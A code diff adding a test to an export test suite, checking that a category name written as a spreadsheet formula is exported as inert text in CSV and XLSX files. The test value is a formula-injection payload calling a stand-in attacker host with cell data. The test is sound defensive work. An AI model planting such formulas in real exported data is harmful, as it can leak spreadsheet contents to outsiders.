@@ -176,6 +176,26 @@ describeEachDialect("reports and the ITA evidence pack", (current) => {
     expect(JSON.parse(entry.details!)).toEqual({ fy: 2569, format: "csv", team: "integrity", category: null });
   });
 
+  it("writes a name that a spreadsheet would run as a formula as text, in the CSV and in the XLSX", async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?"&A1,"open")';
+    await services.db.updateTable("categories").set({ name_th: formula }).where("code", "=", "corruption.bribery").execute();
+    const selection = { fiscalYear: 2569, teamCode: null, categoryCode: "corruption.bribery" };
+
+    const csv = (await exportEvidencePack(services, { type: "system" }, selection, "csv", reportTime)) as ExportFile;
+    const rows = parseCsv(csv.bytes.toString("utf8"));
+    expect(rows).toContainEqual(["หมวดหมู่", `'${formula}`]);
+    expect(rows.flat().filter((field) => /^[=+\-@\t\r]/.test(field))).toEqual([]);
+
+    const xlsx = (await exportEvidencePack(services, { type: "system" }, selection, "xlsx", reportTime)) as ExportFile;
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.bytes as unknown as ArrayBuffer);
+    const cells: ExcelJS.Cell[] = [];
+    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
+    // exceljs stores a plain string as a string cell: the name is there, verbatim, and no cell anywhere is a formula.
+    expect(cells.some((cell) => cell.type === ExcelJS.ValueType.String && cell.value === formula)).toBe(true);
+    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
+  });
+
   it("prints the year's item codes from the settings, and refuses an export for a team that does not exist", async () => {
     await services.db.insertInto("settings").values({ key: itaItemCodesSettingKey, value: JSON.stringify({ "2569": { corruptionStatistics: "O30", indicator7: "8" } }), updated_at: reportTime }).execute();
     const file = (await exportEvidencePack(services, { type: "system" }, { fiscalYear: 2569, teamCode: null, categoryCode: null }, "csv", reportTime)) as ExportFile;
